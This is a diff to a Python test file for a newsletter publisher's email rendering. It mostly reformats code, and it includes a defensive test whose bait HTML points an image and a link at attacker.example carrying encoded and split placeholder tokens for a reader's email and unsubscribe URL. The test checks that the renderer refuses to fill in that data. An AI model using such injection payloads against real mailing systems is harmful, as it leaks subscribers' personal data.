@@ -3,10 +3,10 @@
 from __future__ import annotations
 
 import email
+import email.policy
 import html
 import re
-import email.policy
-from datetime import datetime, timedelta, timezone
+from datetime import UTC, datetime, timedelta
 
 import pytest
 
@@ -19,7 +19,7 @@ from publisher.render import HTML_BUDGET, Personaliser, personalise, render_dige
 from tests.conftest import AS_OF_002, SEED_002
 
 GMAIL_CLIP = 102 * 1024
-SLOT = datetime(2025, 10, 6, 8, tzinfo=timezone.utc)
+SLOT = datetime(2025, 10, 6, 8, tzinfo=UTC)
 RECIPIENT = {
     "email": "ada@example.com",
     "name": "Ada <Lovelace> & co",
@@ -30,20 +30,35 @@ RECIPIENT = {
 
 def seed_articles() -> list[Article]:
     drafts = read_textpage(SEED_002, as_of=AS_OF_002)
-    return [Article(guid=d.slug, slug=d.slug, title=d.title, url=f"https://news.example.org/{d.slug}/",
-                    summary_html=d.summary_html, content_html=d.content_html, truncated=d.truncated,
-                    published=d.published, updated=d.published, id=n, tags=("China",) if n % 4 == 0 else ())
-            for n, d in enumerate(drafts, start=1)]
+    return [
+        Article(
+            guid=d.slug,
+            slug=d.slug,
+            title=d.title,
+            url=f"https://news.example.org/{d.slug}/",
+            summary_html=d.summary_html,
+            content_html=d.content_html,
+            truncated=d.truncated,
+            published=d.published,
+            updated=d.published,
+            id=n,
+            tags=("China",) if n % 4 == 0 else (),
+        )
+        for n, d in enumerate(drafts, start=1)
+    ]
 
 
 @pytest.fixture
 def site(make_settings):
     def make(templates_dir=None, **newsletter):
-        data = {"site": {"title": "Friends", "language": "en"},
-                "newsletters": {"weekly": {"title": "The Weekly", **newsletter}}}
+        data = {
+            "site": {"title": "Friends", "language": "en"},
+            "newsletters": {"weekly": {"title": "The Weekly", **newsletter}},
+        }
         if templates_dir:
             data["templates"] = {"dir": str(templates_dir)}
         return make_settings(data)
+
     return make
 
 
@@ -54,8 +69,9 @@ def digest_of(articles, settings) -> Digest:
 
 
 def render(settings, articles=None):
-    return render_digest(digest_of(articles or seed_articles(), settings), settings=settings,
-                         newsletter=settings.newsletter("weekly"))
+    return render_digest(
+        digest_of(articles or seed_articles(), settings), settings=settings, newsletter=settings.newsletter("weekly")
+    )
 
 
 @pytest.fixture
@@ -132,9 +148,15 @@ def test_each_render_mints_its_own_unguessable_placeholders(site):
 
 
 HOSTILE_FORMS = [
-    "@@EMAIL@@", "@@UNSUBSCRIBE_URL@@", "@@PREFERENCES_URL@@", "@@NAME@@",  # the tokens of 0.1
-    "&#64;&#64;EMAIL&#64;&#64;", "&#x40;&#x40;UNSUBSCRIBE_URL&#x40;&#x40;",  # entity-encoded
-    "%40%40EMAIL%40%40", "@@EM<!-- -->AIL@@", "@@<b></b>EMAIL@@",  # escaped and split
+    "@@EMAIL@@",
+    "@@UNSUBSCRIBE_URL@@",
+    "@@PREFERENCES_URL@@",
+    "@@NAME@@",  # the tokens of 0.1
+    "&#64;&#64;EMAIL&#64;&#64;",
+    "&#x40;&#x40;UNSUBSCRIBE_URL&#x40;&#x40;",  # entity-encoded
+    "%40%40EMAIL%40%40",
+    "@@EM<!-- -->AIL@@",
+    "@@<b></b>EMAIL@@",  # escaped and split
 ]
 
 
@@ -142,11 +164,22 @@ HOSTILE_FORMS = [
 def test_imported_content_cannot_fill_in_a_readers_address_or_links(site, form):
     """A feed item that writes placeholders into an image URL gets them back as plain text."""
     settings = site()
-    bait = (f'<p>Look <img src="https://attacker.example/t.gif?e={form}" alt="x">'
-            f'<a href="https://attacker.example/l?u={form}">{form}</a></p>')
-    article = Article(guid="bait", slug="bait", title=f"Bait {form}", url="https://news.example.org/bait/",
-                      summary_html=bait, content_html=bait, truncated=False, published=SLOT - timedelta(hours=1),
-                      updated=SLOT - timedelta(hours=1), id=1)
+    bait = (
+        f'<p>Look <img src="https://attacker.example/t.gif?e={form}" alt="x">'
+        f'<a href="https://attacker.example/l?u={form}">{form}</a></p>'
+    )
+    article = Article(
+        guid="bait",
+        slug="bait",
+        title=f"Bait {form}",
+        url="https://news.example.org/bait/",
+        summary_html=bait,
+        content_html=bait,
+        truncated=False,
+        published=SLOT - timedelta(hours=1),
+        updated=SLOT - timedelta(hours=1),
+        id=1,
+    )
     rendered = render(settings, [article])
     compiled = compile_message(rendered, settings=settings, newsletter=settings.newsletter("weekly"), issue_number=1)
     message = email.message_from_bytes(compiled.personalise(subscriber_id=7, **RECIPIENT), policy=email.policy.default)
@@ -175,9 +208,19 @@ def test_overflow_is_listed_as_links(site):
 
 def test_the_clip_guard_shortens_teasers_then_moves_articles_to_the_overflow(site):
     base = seed_articles()
-    huge = [Article(**{**a.__dict__, "id": n, "slug": f"s{n}", "title": f"Long read {n}",
-                       "summary_html": "<p>" + "word " * 3000 + "</p>", "published": SLOT - timedelta(minutes=n)})
-            for n, a in enumerate(base * 10, start=1)]
+    huge = [
+        Article(
+            **{
+                **a.__dict__,
+                "id": n,
+                "slug": f"s{n}",
+                "title": f"Long read {n}",
+                "summary_html": "<p>" + "word " * 3000 + "</p>",
+                "published": SLOT - timedelta(minutes=n),
+            }
+        )
+        for n, a in enumerate(base * 10, start=1)
+    ]
     rendered = render(site(max_articles=200), huge)
     assert len(rendered.html.encode("utf-8")) <= HTML_BUDGET
     assert rendered.trimmed[0] == "teasers removed"
@@ -198,7 +241,8 @@ def test_an_unknown_mjml_tag_names_the_template_and_line(site, tmp_path):
     folder.mkdir(parents=True)
     (folder / "digest.mjml.j2").write_text(
         "<mjml>\n  <mj-body>\n    <mj-section><mj-column>\n      <mj-txt>{{ summary }}</mj-txt>\n"
-        "    </mj-column></mj-section>\n  </mj-body>\n</mjml>\n")
+        "    </mj-column></mj-section>\n  </mj-body>\n</mjml>\n"
+    )
     with pytest.raises(TemplateError, match=r"mine/email/digest\.mjml\.j2:4: unknown MJML tag <mj-txt>"):
         render(site(templates_dir=tmp_path / "mine"))
 
@@ -218,9 +262,18 @@ def test_an_error_in_the_subject_template_names_the_config_key(site):
 
 
 def test_a_short_full_post_needs_no_continue_reading_link(site):
-    whole = Article(guid="g", slug="short", title="Xi meets Lao president", url="https://news.example.org/short/",
-                    summary_html="<p>One paragraph.</p>", content_html="<p>One paragraph.</p>", truncated=False,
-                    published=SLOT - timedelta(hours=1), updated=SLOT - timedelta(hours=1), id=1)
+    whole = Article(
+        guid="g",
+        slug="short",
+        title="Xi meets Lao president",
+        url="https://news.example.org/short/",
+        summary_html="<p>One paragraph.</p>",
+        content_html="<p>One paragraph.</p>",
+        truncated=False,
+        published=SLOT - timedelta(hours=1),
+        updated=SLOT - timedelta(hours=1),
+        id=1,
+    )
     rendered = render(site(), [whole])
     assert "Continue reading" not in rendered.html and "Continue reading" not in rendered.text
     assert "1 new article since" in rendered.html and rendered.trimmed == ()
